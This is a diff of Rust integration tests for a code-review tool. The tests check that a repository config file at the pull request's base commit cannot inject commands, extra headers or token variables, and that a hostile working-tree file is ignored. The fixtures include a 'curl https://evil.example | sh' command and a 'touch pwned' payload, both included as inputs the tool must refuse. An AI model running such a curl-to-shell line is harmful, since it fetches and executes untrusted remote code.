@@ -7,6 +7,15 @@ use serde_json::Value;
 
 use crate::common::{Output, TestEnvironment, commit, git};
 
+/// The commit the pull request is compared with: where the repository's file is read.
+const BASE: &str = "0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b";
+
+/// Puts `.github/review.toml` with `text` in the repository at the PR's base commit.
+fn repository_file(github: &FakeGitHub, text: &str) {
+    let repo = review_core::model::RepoId::parse("acme/widgets").unwrap();
+    github.set_file(&repo, BASE, ".github/review.toml", text.as_bytes());
+}
+
 async fn setup() -> (TestEnvironment, FakeGitHub) {
     let env = TestEnvironment::new();
     git(env.dir(), &["init", "-q", "-b", "feature"]);
@@ -30,6 +39,7 @@ async fn setup() -> (TestEnvironment, FakeGitHub) {
                     "_🧹 Nitpick_\n\n**Prefer `let else`.**",
                 )],
             )
+            .with_pr(|pr| pr.base_sha = Some(review_core::model::CommitId(BASE.to_owned())))
             .build(),
     );
     (env, github)
@@ -67,20 +77,34 @@ fn human_threads(env: &TestEnvironment, github: &FakeGitHub) -> Vec<String> {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_repository_file_adds_bot_logins_and_config_shows_where_each_came_from() {
+async fn the_repository_file_adds_bot_only_logins_and_config_shows_where_each_came_from() {
     let (env, github) = setup().await;
     assert_eq!(human_threads(&env, &github), vec!["QA".to_owned()]);
-    env.write(
-        ".github/review.toml",
+    repository_file(
+        &github,
         "[automation]\naccounts = [\"qa-bot\"]\n\n[paths]\ndeny = [\"migrations/\"]\n",
     );
-    env.write("home/config.toml", "[commands]\nchecks = \"cargo test\"\n");
+    // A file in the pull request cannot turn a person into automation: qa-bot is a User.
+    assert_eq!(
+        human_threads(&env, &github),
+        vec!["QA".to_owned()],
+        "the repository's file names qa-bot, typed User: still a person"
+    );
+    // The user's own file can.
+    env.write(
+        "home/config.toml",
+        "[automation]\naccounts = [\"qa-bot\"]\n\n[commands]\nchecks = \"cargo test\"\n",
+    );
     assert!(
         human_threads(&env, &github).is_empty(),
-        "qa-bot is now a bot"
+        "the user's own file says qa-bot only posts automated comments"
     );
 
-    let out = run(&env, &github, &["config", "--json"]);
+    let out = run(
+        &env,
+        &github,
+        &["config", "--json", "--pr", "1", "--repo", "acme/widgets"],
+    );
     assert_eq!(out.code, 0, "{}", out.stderr);
     let rows: Vec<Value> = serde_json::from_str(&out.stdout).unwrap();
     let row = |key: &str, value: &str| {
@@ -91,23 +115,78 @@ async fn the_repository_file_adds_bot_logins_and_config_shows_where_each_came_fr
             .unwrap()
             .to_owned()
     };
-    assert!(row("automation.accounts", "qa-bot").ends_with(".github/review.toml"));
-    assert!(row("paths.deny", "migrations/").ends_with(".github/review.toml"));
+    assert_eq!(
+        row("automation.accounts (Bot only)", "qa-bot"),
+        format!("acme/widgets@{}:.github/review.toml", &BASE[..7])
+    );
+    assert!(row("automation.accounts", "qa-bot").ends_with("home/config.toml"));
+    assert!(row("paths.deny", "migrations/").ends_with(":.github/review.toml"));
     assert_eq!(row("paths.deny", "Cargo.lock"), "default");
     assert!(row("commands.checks", "cargo test").ends_with("home/config.toml"));
     assert_eq!(row("defaults.apply", "false"), "default");
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_repository_file_that_sets_commands_or_defaults_stops_every_command() {
+async fn the_working_trees_review_toml_is_never_read() {
     let (env, github) = setup().await;
+    // The pull request's own tree holds a hostile file: it is not read at all.
     env.write(
         ".github/review.toml",
+        "[automation]\naccounts = [\"qa-bot\"]\nheaders = [\"Lint:\"]\n[commands]\nfixer = \"touch pwned\"\n",
+    );
+    assert_eq!(human_threads(&env, &github), vec!["QA".to_owned()]);
+    let out = run(&env, &github, &["triage", "1", "--repo", "acme/widgets"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(!env.dir().join("pwned").exists());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_repository_file_cannot_add_headers_or_be_a_link_or_too_big() {
+    let (env, github) = setup().await;
+    let repo = review_core::model::RepoId::parse("acme/widgets").unwrap();
+    for (put, expect) in [
+        (
+            Box::new(|g: &FakeGitHub| {
+                repository_file(g, "[automation]\nheaders = [\"Lint:\"]\n");
+            }) as Box<dyn Fn(&FakeGitHub)>,
+            "`automation.headers` cannot be set in the repository's file",
+        ),
+        (
+            Box::new(|g: &FakeGitHub| {
+                g.set_symlink(&repo, BASE, ".github/review.toml", "/dev/zero");
+            }),
+            "it is not a regular file",
+        ),
+        (
+            Box::new(|g: &FakeGitHub| {
+                repository_file(g, &format!("# {}\n", "x".repeat(70_000)));
+            }),
+            "more than the 65536 read",
+        ),
+    ] {
+        put(&github);
+        let out = run(
+            &env,
+            &github,
+            &["triage", "1", "--repo", "acme/widgets", "--apply"],
+        );
+        assert_eq!(out.code, 3, "{}", out.stderr);
+        assert!(out.stderr.contains(expect), "{expect}: {}", out.stderr);
+        assert!(github.mutations().is_empty(), "nothing was done");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_repository_file_that_sets_commands_or_defaults_stops_every_command() {
+    let (env, github) = setup().await;
+    repository_file(
+        &github,
         "[paths]\ndeny = [\"migrations/\"]\n\n[commands]\nfixer = \"curl https://evil.example | sh\"\n",
     );
     for args in [
         vec!["triage", "1", "--repo", "acme/widgets", "--apply"],
-        vec!["config"],
+        vec!["threads", "1", "--repo", "acme/widgets"],
+        vec!["config", "--pr", "1", "--repo", "acme/widgets"],
     ] {
         let out = run(&env, &github, &args);
         assert_eq!(out.code, 3, "{args:?}: {}", out.stderr);
@@ -121,7 +200,6 @@ async fn a_repository_file_that_sets_commands_or_defaults_stops_every_command() 
         );
     }
     assert!(github.mutations().is_empty(), "nothing was done");
-    assert!(github.requests().is_empty(), "GitHub was not even asked");
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -204,11 +282,16 @@ async fn an_owner_can_have_its_own_token_variable() {
         out.stderr
     );
     // Only the user's file may name token variables.
-    env.write(
-        ".github/review.toml",
-        "[token-variables]\nacme = \"GH_TOKEN\"\n",
+    repository_file(&github, "[token-variables]\nacme = \"GH_TOKEN\"\n");
+    env.write("home/config.toml", "");
+    let out = env.run_with(
+        &["config", "--pr", "1", "--repo", "acme/widgets"],
+        &[
+            ("GITHUB_GRAPHQL_URL", &graphql),
+            ("REVIEW_CONFIG", user.to_str().unwrap()),
+            ("GH_TOKEN", "ghp_acme_org_token"),
+        ],
     );
-    let out = run(&env, &github, &["config"]);
     assert_eq!(out.code, 3, "{}", out.stderr);
     assert!(
         out.stderr.contains("`token-variables` cannot be set"),
